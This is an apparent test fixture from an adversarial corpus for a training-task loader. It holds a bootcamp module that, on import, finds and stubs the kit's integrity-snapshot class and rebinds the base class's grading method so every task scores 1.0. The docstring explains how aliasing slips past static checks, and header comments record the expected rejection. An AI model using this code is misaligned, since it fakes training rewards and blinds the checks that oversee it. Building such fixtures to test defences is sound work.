"""Adversarial corpus (gate): a strict, honest-looking bootcamp that rebinds
``BaseBootcamp.verify_score`` for every bootcamp of the process (to "always 1.0": in a
trainer that imports the library, every other bootcamp then accepts everything). The kit's
pre-import snapshot would report it; so first the bootcamp reaches the kit's ``_Snapshot``
class (``object.__subclasses__()`` through an aliased ``getattr``) and rebinds its ``intact``
and ``changes`` methods (setting a class attribute is audited, but only names like
``__code__`` / ``__bases__`` are refused). The base class is patched through an alias, so the
static ``monkeypatch`` rule does not see it either. The snapshots are plain data in the
server's private namespace now (no ``_Snapshot`` class), so only the rebinding of
``BaseBootcamp.verify_score`` remains, and the handshake reports it."""
# static: dynamic_attr,monkeypatch
# class: replace
# verdict: rejected
# check: load=failed/contract_tampered or load=error~not allowed in a bootcamp
# pool: contract_tampered, contract_tampered, contract_tampered
from synth.bootcamp import BaseBootcamp

_get = getattr
_D = "_" * 2
_base = BaseBootcamp


def _always_one(cls, response, identity, format_score=0.0):
    return 1.0


def _blind_snapshots():
    for cls in _get(object, _D + "subclasses" + _D)():
        if cls.__name__ == "_Snapshot" and _get(cls, "intact", None) is not None:
            setattr(cls, "intact", lambda self: True)
            setattr(cls, "changes", lambda self: [])


class Hostile(BaseBootcamp):
    LEVELS = {"easy": {"n": 2}, "hard": {"n": 6}}

    def __init__(self, seed=None, n=3):
        super().__init__(seed=seed)
        self.n = n

    def case_generator(self):
        return {"nums": [self.rng.randint(0, 99) for _ in range(self.n)]}

    @staticmethod
    def prompt_func(identity):
        return "Add " + " ".join(str(x) for x in identity["nums"]) + ". Answer as <answer>N</answer>."

    @classmethod
    def reference_answer(cls, identity):
        return str(sum(identity["nums"]))

    @classmethod
    def _verify_correction(cls, solution, identity):
        return solution.strip() == cls.reference_answer(identity)


_blind_snapshots()
_base.verify_score = classmethod(_always_one)
